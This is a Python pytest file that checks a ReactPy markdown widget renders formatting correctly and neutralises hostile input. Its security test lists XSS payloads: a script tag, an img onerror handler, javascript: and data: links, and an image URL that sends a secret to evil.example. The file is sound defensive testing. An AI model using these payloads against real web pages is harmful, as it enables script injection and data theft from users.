"""Text of models and strangers: readable, and inert."""

from __future__ import annotations

from typing import Any

import pytest
from reactpy import component, html

from fundwright.core.assembly import Core
from fundwright_ui.runtime.html import to_html
from fundwright_ui.runtime.testing import mounted
from fundwright_ui.widgets.markdown import rendered


async def html_of(core: Core, text: str) -> str:
    @component
    def screen() -> Any:
        return html.div(*rendered(text))

    async with mounted(core, None, screen) as shown:
        return to_html(shown.view.tree).partition("</div>")[2]  # behind the place of what is said about the whole page


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("# Aim\n\nOne **bold** and *thin* `x`.", "<h1>Aim</h1><p>One <strong>bold</strong> and <em>thin</em> <code>x</code>.</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("> said [1]", "<blockquote><p>said [1]</p></blockquote>"),
        ("|a|b|\n|-|-|\n|1|2|", "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
    ],
)  # fmt: skip
async def test_markdown_becomes_elements(core: Core, text: str, markup: str) -> None:
    assert await html_of(core, text) == f"<div>{markup}</div>"


@pytest.mark.security(39)
@pytest.mark.parametrize(
    "text",
    [
        '<img src=x onerror="alert(1)">',
        "![pixel](http://evil.example/?q=secret)",
        "[here](javascript:alert(1))",
        "[here](data:text/html,x)",
        "<script>alert(1)</script>",
        "[a]: javascript:alert(1)\n\n[a]",
        "[here](//evil.example)",
    ],
)
async def test_what_could_act_is_only_text(core: Core, text: str) -> None:
    shown = await html_of(core, text)
    assert "<img" not in shown
    assert "<script" not in shown
    assert 'href="javascript' not in shown
    assert 'href="data' not in shown
    assert 'href="//' not in shown
    assert "src=" not in shown.replace("&lt;img src=x", "")
